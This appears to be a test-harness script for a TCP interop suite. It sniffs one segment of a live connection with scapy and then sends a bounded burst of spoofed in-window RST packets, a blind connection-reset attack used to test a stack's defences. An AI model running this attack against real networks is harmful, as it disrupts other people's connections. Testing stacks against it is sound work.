#!/usr/bin/python3
"""An off-path attacker's blind in-window RSTs, for the interop suite (test/interop/attack.test.ts).

Run inside the kernel's namespace with Debian's python3-scapy: it waits for one segment of the
client's live connection to the server (the attacker's knowledge: the 4-tuple and roughly where
the client's sequence numbers are), then sends `count` RSTs spoofed from the client, each
`step` bytes past that sequence number: inside the server's receive window, never the exact
rcv_nxt. Bounded: count RSTs, a 10 s sniff timeout. Prints one JSON line.
"""
import argparse, json, sys
from scapy.all import IP, TCP, conf, send, sniff  # noqa: E402

p = argparse.ArgumentParser()
p.add_argument('--dev', required=True)
p.add_argument('--server', required=True)
p.add_argument('--port', type=int, default=80)
p.add_argument('--count', type=int, default=200)
p.add_argument('--step', type=int, default=97)
a = p.parse_args()
conf.verb = 0
got = sniff(iface=a.dev, filter=f'tcp and dst host {a.server} and dst port {a.port} and tcp[tcpflags] & tcp-ack != 0', count=1, timeout=10)
if not got:
    print(json.dumps({'error': 'no segment of a live connection seen in 10 s'}))
    sys.exit(1)
seg = got[0]
ip, tcp = seg[IP], seg[TCP]
rsts = [IP(src=ip.src, dst=ip.dst) / TCP(sport=tcp.sport, dport=tcp.dport, flags='R', seq=(tcp.seq + i * a.step) & 0xffffffff) for i in range(1, a.count + 1)]
send(rsts)
print(json.dumps({'client': f'{ip.src}:{tcp.sport}', 'seq': tcp.seq, 'sent': len(rsts), 'span': a.count * a.step}))
